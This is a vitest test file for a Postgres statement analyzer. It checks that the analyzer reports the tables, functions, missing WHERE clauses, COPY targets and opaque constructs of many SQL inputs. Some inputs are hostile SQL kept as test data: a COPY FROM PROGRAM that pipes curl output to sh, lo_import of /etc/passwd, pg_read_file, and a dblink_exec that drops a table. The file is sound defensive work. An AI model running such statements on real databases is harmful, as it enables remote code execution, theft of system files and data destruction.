import { describe, expect, it } from "vitest";
import { inspectSql, resolvePreparedStatements, type StatementFacts } from "../src/index";
import { only, useParser } from "./helpers";

useParser();

type Expect = Partial<
  Pick<
    StatementFacts,
    | "relationsRead"
    | "relationsWritten"
    | "functions"
    | "withoutWhere"
    | "kinds"
    | "opaque"
    | "copy"
  >
>;

// Each row: a statement and the facts it must yield (lists compared as sets).
const cases: { name: string; sql: string; searchPath?: string[]; expected: Expect }[] = [
  // relations read and written
  {
    name: "a join reads both tables",
    sql: "SELECT * FROM a JOIN b ON a.id = b.a_id",
    expected: { relationsRead: ["public.a", "public.b"], relationsWritten: [] },
  },
  {
    name: "a subquery in WHERE reads its table",
    sql: "SELECT * FROM a WHERE id IN (SELECT a_id FROM b)",
    expected: { relationsRead: ["public.a", "public.b"] },
  },
  {
    name: "a scalar subquery in the select list reads its table",
    sql: "SELECT (SELECT max(x) FROM b) FROM a",
    expected: { relationsRead: ["public.a", "public.b"], functions: ["max"] },
  },
  {
    name: "a LATERAL subquery reads its table",
    sql: "SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.a_id = a.id) x",
    expected: { relationsRead: ["public.a", "public.b"] },
  },
  {
    name: "both sides of a UNION are read",
    sql: "SELECT id FROM a UNION ALL SELECT id FROM s.b",
    expected: { relationsRead: ["public.a", "s.b"] },
  },
  {
    name: "a schema-qualified name is kept as written",
    sql: "SELECT * FROM billing.invoices",
    expected: { relationsRead: ["billing.invoices"] },
  },
  {
    name: "a quoted identifier keeps its case",
    sql: 'SELECT * FROM "Billing"."Invoices"',
    expected: { relationsRead: ["Billing.Invoices"] },
  },
  {
    name: "an unquoted identifier is folded to lower case",
    sql: "SELECT * FROM BILLING.INVOICES",
    expected: { relationsRead: ["billing.invoices"] },
  },
  {
    name: "a database-qualified name drops the database",
    sql: "SELECT * FROM db.s.t",
    expected: { relationsRead: ["s.t"] },
  },
  {
    name: "an unqualified name resolves against every schema of the search path",
    sql: "SELECT * FROM t",
    searchPath: ["app", "$user", "public"],
    expected: { relationsRead: ["app.t", "public.t"] },
  },
  {
    name: "an unqualified pg_ name may also be a catalog relation",
    sql: "SELECT * FROM pg_authid",
    expected: { relationsRead: ["pg_catalog.pg_authid", "public.pg_authid"] },
  },
  {
    name: "a CTE name is not a relation",
    sql: "WITH x AS (SELECT * FROM a) SELECT * FROM x",
    expected: { relationsRead: ["public.a"] },
  },
  {
    name: "a CTE shadowing a table name still reads the table inside its own body",
    sql: "WITH secret AS (SELECT * FROM secret) SELECT * FROM secret",
    expected: { relationsRead: ["public.secret"] },
  },
  {
    name: "a later CTE sees an earlier one",
    sql: "WITH x AS (SELECT 1), y AS (SELECT * FROM x) SELECT * FROM y",
    expected: { relationsRead: [] },
  },
  {
    name: "a recursive CTE refers to itself without reading a table",
    sql: "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
    expected: { relationsRead: [] },
  },
  {
    name: "a CTE scoped to one side of a UNION does not hide the table on the other side",
    sql: "(WITH x AS (SELECT 1) SELECT * FROM x) UNION SELECT * FROM x",
    expected: { relationsRead: ["public.x"] },
  },
  {
    name: "a schema-qualified name is never a CTE",
    sql: "WITH t AS (SELECT 1) SELECT * FROM public.t",
    expected: { relationsRead: ["public.t"] },
  },
  {
    name: "INSERT … SELECT writes the target and reads the source",
    sql: "INSERT INTO archive SELECT * FROM orders WHERE old",
    expected: {
      relationsRead: ["public.orders"],
      relationsWritten: ["public.archive"],
      kinds: ["insert"],
    },
  },
  {
    name: "INSERT … RETURNING a subquery reads its table",
    sql: "INSERT INTO t (a) VALUES (1) RETURNING (SELECT x FROM y)",
    expected: { relationsRead: ["public.y"], relationsWritten: ["public.t"] },
  },
  {
    name: "INSERT … ON CONFLICT DO UPDATE reads what its SET reads",
    sql: "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = (SELECT n FROM u)",
    expected: { relationsRead: ["public.u"], relationsWritten: ["public.t"] },
  },
  {
    name: "UPDATE … FROM reads the FROM tables",
    sql: "UPDATE t SET a = u.a FROM u WHERE t.id = u.id",
    expected: { relationsRead: ["public.u"], relationsWritten: ["public.t"], withoutWhere: false },
  },
  {
    name: "DELETE … USING reads the USING tables",
    sql: "DELETE FROM t USING u WHERE t.id = u.id",
    expected: { relationsRead: ["public.u"], relationsWritten: ["public.t"] },
  },
  {
    name: "MERGE writes the target and reads the source",
    sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
    expected: { relationsRead: ["public.s"], relationsWritten: ["public.t"], kinds: ["merge"] },
  },
  {
    name: "a data-modifying CTE writes its target and adds its kind",
    sql: "WITH moved AS (DELETE FROM queue WHERE done RETURNING *) INSERT INTO archive SELECT * FROM moved",
    expected: {
      relationsWritten: ["public.queue", "public.archive"],
      relationsRead: [],
      kinds: ["insert", "delete"],
    },
  },
  {
    name: "an UPDATE inside a CTE under a SELECT makes it an update too",
    sql: "WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u",
    expected: { kinds: ["select", "update"], relationsWritten: ["public.t"] },
  },
  {
    name: "TRUNCATE writes every table it names",
    sql: "TRUNCATE a, s.b",
    expected: { relationsWritten: ["public.a", "s.b"] },
  },
  {
    name: "DROP TABLE writes every table it names",
    sql: "DROP TABLE a, s.b",
    expected: { relationsWritten: ["public.a", "s.b"] },
  },
  {
    name: "DROP SCHEMA writes every relation of the schema",
    sql: "DROP SCHEMA billing CASCADE",
    expected: { relationsWritten: ["billing.*"] },
  },
  {
    name: "GRANT ON ALL TABLES IN SCHEMA writes every relation of the schema",
    sql: "GRANT SELECT ON ALL TABLES IN SCHEMA billing TO bob",
    expected: { relationsWritten: ["billing.*"] },
  },
  {
    name: "ALTER SCHEMA RENAME writes every relation of the schema",
    sql: "ALTER SCHEMA billing RENAME TO b2",
    expected: { relationsWritten: ["billing.*"] },
  },
  {
    name: "GRANT on a table writes the table",
    sql: "GRANT SELECT ON s.t TO bob",
    expected: { relationsWritten: ["s.t"] },
  },
  {
    name: "COMMENT ON COLUMN writes the column's table",
    sql: "COMMENT ON COLUMN s.t.c IS 'x'",
    expected: { relationsWritten: ["s.t"] },
  },
  {
    name: "CREATE TABLE writes the new table and reads the tables its foreign keys reference",
    sql: "CREATE TABLE t (a int REFERENCES u (id) DEFAULT nextval('seq'))",
    expected: {
      relationsWritten: ["public.t"],
      relationsRead: ["public.u"],
      functions: ["nextval"],
    },
  },
  {
    name: "CREATE TEMP TABLE writes a pg_temp table",
    sql: "CREATE TEMP TABLE scratch (a int)",
    expected: { relationsWritten: ["pg_temp.scratch"] },
  },
  {
    name: "CREATE TABLE AS writes the new table and reads the query's tables",
    sql: "CREATE TABLE copy AS SELECT * FROM secret.keys",
    expected: { relationsWritten: ["public.copy"], relationsRead: ["secret.keys"] },
  },
  {
    name: "SELECT INTO writes the new table and reads the source",
    sql: "SELECT * INTO loot FROM secret.keys",
    expected: { relationsWritten: ["public.loot"], relationsRead: ["secret.keys"] },
  },
  {
    name: "CREATE VIEW writes the view and reads its query's tables (views are named, not expanded)",
    sql: "CREATE VIEW v AS SELECT * FROM secret.keys",
    expected: { relationsWritten: ["public.v"], relationsRead: ["secret.keys"] },
  },
  {
    name: "selecting from a view names the view only",
    sql: "SELECT * FROM reporting.v",
    expected: { relationsRead: ["reporting.v"] },
  },
  {
    name: "VACUUM writes the tables it names",
    sql: "VACUUM (ANALYZE) s.t",
    expected: { relationsWritten: ["s.t"] },
  },
  {
    name: "LOCK reads the tables it names",
    sql: "LOCK TABLE s.t",
    expected: { relationsRead: ["s.t"] },
  },
  // functions
  {
    name: "a function in the select list is named",
    sql: "SELECT lower(name) FROM t",
    expected: { functions: ["lower"] },
  },
  {
    name: "a schema-qualified function keeps its schema, lowercased",
    sql: "SELECT PG_CATALOG.Upper('x')",
    expected: { functions: ["pg_catalog.upper"] },
  },
  {
    name: "nested function calls are all named",
    sql: "SELECT coalesce(lower(upper(a)), md5(b)) FROM t",
    expected: { functions: ["lower", "upper", "md5"] },
  },
  {
    name: "SQL-standard syntax names the catalog function it becomes",
    sql: "SELECT trim(a), substring(b from 2) FROM t",
    expected: { functions: ["pg_catalog.btrim", "pg_catalog.substring"] },
  },
  {
    name: "a function in WHERE is named",
    sql: "SELECT 1 FROM t WHERE pg_sleep(1) IS NOT NULL",
    expected: { functions: ["pg_sleep"] },
  },
  {
    name: "a function in FROM is named",
    sql: "SELECT * FROM pg_ls_dir('.')",
    expected: { functions: ["pg_ls_dir"] },
  },
  {
    name: "functions in ROWS FROM are named",
    sql: "SELECT * FROM ROWS FROM (f(), g())",
    expected: { functions: ["f", "g"] },
  },
  {
    name: "a function in an INSERT VALUES default position is named",
    sql: "INSERT INTO t (a, b) VALUES (DEFAULT, lo_import('/etc/passwd'))",
    expected: { functions: ["lo_import"] },
  },
  {
    name: "a function in an ORDER BY is named",
    sql: "SELECT a FROM t ORDER BY random()",
    expected: { functions: ["random"] },
  },
  {
    name: "a function in a CASE branch is named",
    sql: "SELECT CASE WHEN a THEN pg_terminate_backend(1) END FROM t",
    expected: { functions: ["pg_terminate_backend"] },
  },
  {
    name: "a function in an aggregate FILTER is named",
    sql: "SELECT count(*) FILTER (WHERE f(a)) FROM t",
    expected: { functions: ["count", "f"] },
  },
  {
    name: "a function in a window definition is named",
    sql: "SELECT sum(a) OVER (ORDER BY g(b)) FROM t",
    expected: { functions: ["sum", "g"] },
  },
  {
    name: "a function in an UPDATE SET is named",
    sql: "UPDATE t SET a = f(a) WHERE id = 1",
    expected: { functions: ["f"] },
  },
  {
    name: "a function inside a CTE is named",
    sql: "WITH x AS (SELECT dblink_exec('db', 'drop table t')) SELECT * FROM x",
    expected: { functions: ["dblink_exec"] },
  },
  {
    name: "CALL names its procedure",
    sql: "CALL ops.rotate_keys()",
    expected: { functions: ["ops.rotate_keys"] },
  },
  {
    name: "CREATE TRIGGER names its function",
    sql: "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit()",
    expected: { functions: ["audit"], relationsWritten: ["public.t"], opaque: true },
  },
  // missing WHERE
  {
    name: "UPDATE without WHERE is without where",
    sql: "UPDATE t SET a = 1",
    expected: { withoutWhere: true },
  },
  {
    name: "DELETE without WHERE is without where",
    sql: "DELETE FROM t",
    expected: { withoutWhere: true },
  },
  {
    name: "DELETE with a WHERE on a column has a where",
    sql: "DELETE FROM t WHERE id = 1",
    expected: { withoutWhere: false },
  },
  {
    name: "WHERE true counts as no WHERE",
    sql: "DELETE FROM t WHERE true",
    expected: { withoutWhere: true },
  },
  {
    name: "WHERE 1 = 1 counts as no WHERE",
    sql: "UPDATE t SET a = 1 WHERE 1 = 1",
    expected: { withoutWhere: true },
  },
  {
    name: "WHERE CURRENT OF has a where",
    sql: "DELETE FROM t WHERE CURRENT OF c",
    expected: { withoutWhere: false },
  },
  {
    name: "delete inside a CTE counts as a delete without where",
    sql: "WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d",
    expected: { withoutWhere: true, kinds: ["select", "delete"] },
  },
  {
    name: "an UPDATE in a CTE without WHERE is without where even when the outer DELETE has one",
    sql: "WITH u AS (UPDATE t SET a = 1 RETURNING id) DELETE FROM v WHERE id IN (SELECT id FROM u)",
    expected: { withoutWhere: true },
  },
  {
    name: "INSERT never counts as without where",
    sql: "INSERT INTO t SELECT * FROM u",
    expected: { withoutWhere: false },
  },
  // COPY
  {
    name: "COPY TO STDOUT is a read through stdio",
    sql: "COPY t TO STDOUT",
    expected: {
      copy: { direction: "to", stdio: true, relation: ["public.t"], binary: false, format: "text" },
      relationsRead: ["public.t"],
    },
  },
  {
    name: "COPY FROM STDIN writes the table through stdio",
    sql: "COPY t FROM STDIN",
    expected: {
      copy: {
        direction: "from",
        stdio: true,
        relation: ["public.t"],
        binary: false,
        format: "text",
      },
      relationsWritten: ["public.t"],
    },
  },
  {
    name: "COPY FROM PROGRAM names the program",
    sql: "COPY t FROM PROGRAM 'curl http://x | sh'",
    expected: {
      copy: {
        direction: "from",
        program: "curl http://x | sh",
        stdio: false,
        relation: ["public.t"],
        binary: false,
        format: "text",
      },
    },
  },
  {
    name: "COPY TO a file names the file",
    sql: "COPY t TO '/tmp/out.csv'",
    expected: {
      copy: {
        direction: "to",
        file: "/tmp/out.csv",
        stdio: false,
        relation: ["public.t"],
        binary: false,
        format: "text",
      },
    },
  },
  {
    name: "COPY names its column list and binary format (for masking the rows it sends)",
    sql: 'COPY s.t (a, "B") TO STDOUT WITH (FORMAT binary)',
    expected: {
      copy: {
        direction: "to",
        stdio: true,
        relation: ["s.t"],
        columns: ["a", "B"],
        binary: true,
        format: "binary",
      },
    },
  },
  {
    name: "COPY (query) TO reads the query's tables and functions, and names no relation",
    sql: "COPY (SELECT f(a) FROM s.t) TO STDOUT",
    expected: {
      relationsRead: ["s.t"],
      functions: ["f"],
      copy: { direction: "to", stdio: true, binary: false, format: "text" },
    },
  },
  {
    name: "COPY (DELETE … RETURNING) is a delete too",
    sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT",
    expected: { kinds: ["copy", "delete"], withoutWhere: true },
  },
  // EXPLAIN
  {
    name: "EXPLAIN ANALYZE DELETE counts as the delete",
    sql: "EXPLAIN ANALYZE DELETE FROM t",
    expected: { kinds: ["delete", "explain"], relationsWritten: ["public.t"], withoutWhere: true },
  },
  {
    name: "EXPLAIN (ANALYZE) counts as the statement",
    sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1",
    expected: { kinds: ["update", "explain"], withoutWhere: true },
  },
  {
    name: "EXPLAIN (ANALYZE true) counts as the statement",
    sql: "EXPLAIN (ANALYZE true) DELETE FROM t",
    expected: { kinds: ["delete", "explain"] },
  },
  {
    name: "EXPLAIN (ANALYZE false) only plans",
    sql: "EXPLAIN (ANALYZE false) DELETE FROM t",
    expected: {
      kinds: ["explain"],
      relationsRead: ["public.t"],
      relationsWritten: [],
      withoutWhere: false,
    },
  },
  {
    name: "plain EXPLAIN DELETE only plans: the target is read, nothing is written",
    sql: "EXPLAIN DELETE FROM t",
    expected: {
      kinds: ["explain"],
      relationsRead: ["public.t"],
      relationsWritten: [],
      withoutWhere: false,
    },
  },
  {
    name: "plain EXPLAIN still names the functions (the planner may fold them)",
    sql: "EXPLAIN SELECT pg_read_file('x')",
    expected: { functions: ["pg_read_file"] },
  },
  // PREPARE / DECLARE / EXECUTE
  {
    name: "PREPARE carries its statement's facts",
    sql: "PREPARE p (int) AS DELETE FROM t WHERE id = $1",
    expected: { kinds: ["delete", "prepare"], relationsWritten: ["public.t"], withoutWhere: false },
  },
  {
    name: "DECLARE carries its query's facts",
    sql: "DECLARE c CURSOR FOR SELECT pg_read_file('x') FROM s.t",
    expected: { kinds: ["select", "declare"], functions: ["pg_read_file"], relationsRead: ["s.t"] },
  },
  {
    name: "EXECUTE of an unknown statement is opaque",
    sql: "EXECUTE p (1)",
    expected: { kinds: ["execute"], opaque: true },
  },
  {
    name: "EXECUTE names the functions in its parameters",
    sql: "EXECUTE p (pg_read_file('x'))",
    expected: { functions: ["pg_read_file"] },
  },
  // opaque
  {
    name: "DO is opaque",
    sql: "DO $$ BEGIN DELETE FROM t; END $$",
    expected: { opaque: true, relationsWritten: [] },
  },
  {
    name: "CREATE FUNCTION is opaque",
    sql: "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'drop table t'; END $$",
    expected: { opaque: true, kinds: ["create", "ddl"] },
  },
  {
    name: "CREATE PROCEDURE is opaque",
    sql: "CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$",
    expected: { opaque: true },
  },
  {
    name: "a SQL-standard function body is walked and still opaque",
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END",
    expected: { opaque: true, kinds: ["create", "ddl", "delete"], withoutWhere: true },
  },
  {
    name: "CREATE RULE is opaque and carries its actions' facts",
    sql: "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit",
    expected: {
      opaque: true,
      kinds: ["create", "ddl", "delete"],
      relationsWritten: ["public.t", "public.audit"],
      withoutWhere: true,
    },
  },
  {
    name: "a function that runs SQL text makes the statement opaque",
    sql: "SELECT query_to_xml('select * from secret.keys', true, true, '')",
    expected: { opaque: true, functions: ["query_to_xml"] },
  },
  {
    name: "set_config with a computed setting name is opaque",
    sql: "SELECT set_config(current_setting('x'), 'evil', false)",
    expected: { opaque: true },
  },
  {
    name: "an ordinary SELECT is not opaque",
    sql: "SELECT * FROM t WHERE id = 1",
    expected: { opaque: false },
  },
];

describe("fact extraction", () => {
  it.each(cases)("$name", ({ sql, searchPath, expected }) => {
    const facts = only(sql, searchPath);
    for (const [key, value] of Object.entries(expected)) {
      const actual = facts[key as keyof StatementFacts];
      if (Array.isArray(value) && key !== "kinds") {
        expect([...(actual as string[])].sort(), key).toEqual([...value].sort());
      } else {
        expect(actual, key).toEqual(value);
      }
    }
  });
});

describe("search path", () => {
  it("SET search_path exposes the new path", () => {
    expect(only('SET search_path TO app, "Public"').setSearchPath).toEqual(["app", "Public"]);
  });

  it("SET search_path with a quoted string keeps it as one schema name, as Postgres does", () => {
    expect(only("SET search_path = 'a,b'").setSearchPath).toEqual(["a,b"]);
  });

  it("SET search_path TO DEFAULT and RESET restore Postgres's default path", () => {
    expect(only("SET search_path TO DEFAULT").setSearchPath).toEqual(["$user", "public"]);
    expect(only("RESET search_path").setSearchPath).toEqual(["$user", "public"]);
    expect(only("RESET ALL").setSearchPath).toEqual(["$user", "public"]);
  });

  it("set_config('search_path', literal) exposes the new path, split as Postgres splits it", () => {
    expect(
      only("SELECT pg_catalog.set_config('search_path', 'App, \"X y\"', false)").setSearchPath,
    ).toEqual(["app", "X y"]);
  });

  it("SET search_path then an unqualified name in the same string resolves against the new path", () => {
    const facts = inspectSql("SET search_path = secret; SELECT * FROM keys");
    expect(facts.statements[1]!.relationsRead).toEqual(["secret.keys"]);
  });

  it("a search path change makes the facts depend on a literal, so they are not cacheable", () => {
    expect(inspectSql("SET search_path = secret").cacheable).toBe(false);
    expect(inspectSql("SELECT set_config('work_mem', '1MB', false)").cacheable).toBe(false);
    expect(inspectSql("SELECT * FROM keys").cacheable).toBe(true);
  });
});

describe("prepared statements", () => {
  it("EXECUTE after PREPARE in the same string is judged as the prepared statement", () => {
    const [, exec] = inspectSql("PREPARE p AS DELETE FROM t; EXECUTE p").statements;
    expect(exec).toMatchObject({
      kind: "delete",
      kinds: ["delete"],
      opaque: false,
      withoutWhere: true,
    });
    expect(exec!.prepared?.name).toBe("p");
  });

  it("DEALLOCATE forgets a statement prepared earlier in the string", () => {
    const [, , exec] = inspectSql("PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p").statements;
    expect(exec).toMatchObject({ kind: "execute", opaque: true });
  });

  it("resolvePreparedStatements replaces an EXECUTE the caller tracked with the prepared facts", () => {
    const prepared = only("PREPARE q AS UPDATE t SET a = 1").prepared!.statement!;
    const resolved = resolvePreparedStatements(inspectSql("EXECUTE q"), (name) =>
      name === "q" ? prepared : undefined,
    );
    expect(resolved.statements[0]).toMatchObject({
      kind: "update",
      kinds: ["update"],
      withoutWhere: true,
      opaque: false,
    });
    expect(resolved.cacheable).toBe(false);
  });

  it("resolvePreparedStatements keeps EXPLAIN's kind on EXPLAIN ANALYZE EXECUTE", () => {
    const prepared = only("PREPARE q AS DELETE FROM t").prepared!.statement!;
    const resolved = resolvePreparedStatements(
      inspectSql("EXPLAIN ANALYZE EXECUTE q"),
      () => prepared,
    );
    expect(resolved.statements[0]!.kinds).toEqual(["delete", "explain"]);
  });

  it("resolvePreparedStatements leaves an unknown name opaque", () => {
    const facts = inspectSql("EXECUTE nope");
    expect(resolvePreparedStatements(facts, () => undefined)).toBe(facts);
  });

  it("DEALLOCATE ALL and DISCARD ALL name every prepared statement as *", () => {
    expect(only("DEALLOCATE ALL").prepared).toEqual({ name: "*" });
    expect(only("DISCARD ALL").prepared).toEqual({ name: "*" });
  });
});

describe("statement texts", () => {
  it("each statement carries its own text; a comment before a statement is not part of it", () => {
    const texts = inspectSql("SELECT 1; /* x */ DROP TABLE t;\nSELECT 'é', 2").statements.map(
      (s) => s.text,
    );
    expect(texts).toEqual(["SELECT 1", "DROP TABLE t", "SELECT 'é', 2"]);
  });

  it("non-ASCII text before a statement does not shift the next statement's text", () => {
    const texts = inspectSql("SELECT 'ünïcödé'; DELETE FROM t").statements.map((s) => s.text);
    expect(texts).toEqual(["SELECT 'ünïcödé'", "DELETE FROM t"]);
  });
});
